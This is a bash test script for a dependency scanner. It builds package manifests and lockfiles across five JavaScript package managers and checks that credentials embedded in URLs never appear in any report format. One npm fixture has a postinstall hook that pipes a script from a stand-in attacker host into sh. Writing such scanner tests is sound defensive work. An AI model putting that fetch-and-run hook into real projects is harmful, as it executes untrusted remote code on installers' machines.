# Passwords and tokens in the addresses of a project are nowhere in what is printed, and hide nothing of what an entry is.
. "$PICKET_SRC/tests/cli/scanner.bash"
unset PICKET_CORPUS_DIR # the built-in corpus
i='sha512-'$(printf 'A%.0s' $(seq 86))==

mkdir npm yarn berry pnpm bun
cat >npm/package.json <<'END'
{"name":"s","version":"1.0.0","repository":"https://u:S3CRET0@git.example.com/r.git",
 "dependencies":{"a":"https://user:S3CRET1@files.example.com/a.tgz","b":"^1.0.0","g":"git+https://x:S3CRET2@git.example.com/o/g.git"},
 "overrides":{"z":"https://u:S3CRET3@evil.example.org/z.tgz"},
 "scripts":{"postinstall":"curl https://u:S3CRET4@evil.example.org/x.sh | sh"}}
END
cat >npm/package-lock.json <<END
{"name":"s","lockfileVersion":1,"dependencies":{
 "a":{"version":"https://user:S3CRET1@files.example.com/a.tgz"},
 "b":{"version":"1.0.0","resolved":"http://S3CRET5@registry.example.com/b/-/c-1.0.0.tgz?token=S3CRET6","integrity":"$i"},
 "g":{"version":"git+https://x:S3CRET2@git.example.com/o/g.git#main","from":"git+https://x:S3CRET2@git.example.com/o/g.git"}}}
END
echo 'registry=https://u:S3CRET7@registry.example.com/' >npm/.npmrc
cat >yarn/yarn.lock <<END
# yarn lockfile v1


"a@https://user:S3CRET1@files.example.com/a.tgz":
  version "1.0.0"
  resolved "https://user:S3CRET1@files.example.com/a.tgz#0123456789012345678901234567890123456789"
END
cat >berry/yarn.lock <<'END'
__metadata:
  version: 8

"a@https://user:S3CRET1@files.example.com/a.tgz":
  version: 1.0.0
  resolution: "a@https://user:S3CRET1@files.example.com/a.tgz"
  checksum: 10c0/aa
  languageName: node
  linkType: hard

"b@npm:^1.0.0":
  version: 1.0.0
  resolution: "b@npm:1.0.0::__archiveUrl=https%3A%2F%2Fu%3AS3CRET2%40registry.example.com%2Fb%2F-%2Fb-1.0.0.tgz"
  checksum: 10c0/bb
  languageName: node
  linkType: hard
END
cat >pnpm/pnpm-lock.yaml <<END
lockfileVersion: '9.0'
importers:
  .:
    dependencies:
      a:
        specifier: https://user:S3CRET1@files.example.com/a.tgz
        version: https://user:S3CRET1@files.example.com/a.tgz
packages:
  a@https://user:S3CRET1@files.example.com/a.tgz:
    resolution: {tarball: https://user:S3CRET1@files.example.com/a.tgz, integrity: $i}
    version: 1.0.0
snapshots:
  a@https://user:S3CRET1@files.example.com/a.tgz: {}
END
cat >bun/bun.lock <<END
{"lockfileVersion": 1, "workspaces": {"": {"name": "s", "dependencies": {"a": "https://user:S3CRET1@files.example.com/a.tgz"}}},
 "packages": {"a": ["a@https://user:S3CRET1@files.example.com/a.tgz", {}, "$i"],
  "b": ["b@1.0.0", "https://u:S3CRET2@registry.example.com/b/-/b-1.0.0.tgz", {}, "$i"]}}
END
formats="table json jsonl sarif cyclonedx spdx github gitlab junit ml-context html markdown"

quiet() { # quiet FOLDER: in no format a secret, in none of them nothing
	for format in $formats; do
		gives 0 scanner scan --show info --format $format "$1" || return 1
		test -s out || { echo "  $format is empty"; return 1; }
		not grep -l S3CRET out err || return 1
	done
	for format in tsv json; do
		gives 0 scanner scan --list-packages --format $format "$1" && not grep -l S3CRET out err || return 1
	done
}
found() { # found FOLDER RULE WORDS
	gives 0 scanner scan --show info --format json "$1" && grep -q "\"$2\"" out && grep -q "$3" out
}
for k in npm yarn berry pnpm bun; do
	say "$k: no report holds a secret" quiet $k
	say "$k: the tarball is found all the same" found $k L2-SIDELOAD-001 'https://\*\*\*@files.example.com/a.tgz'
done
say "npm: plain http is found behind a user" found npm L2-LOCK-001 'fetched over http'
say "npm: git without a commit is found behind a password" found npm L2-LOCK-001 'but not to a commit'
cp -r bun other && sed -i 's/S3CRET/0TH3R/g' other/bun.lock
for d in bun other; do scanner scan --list-packages --format tsv $d >$d.tsv; done
say "a listing is the same whatever the password" cmp bun.tsv other.tsv
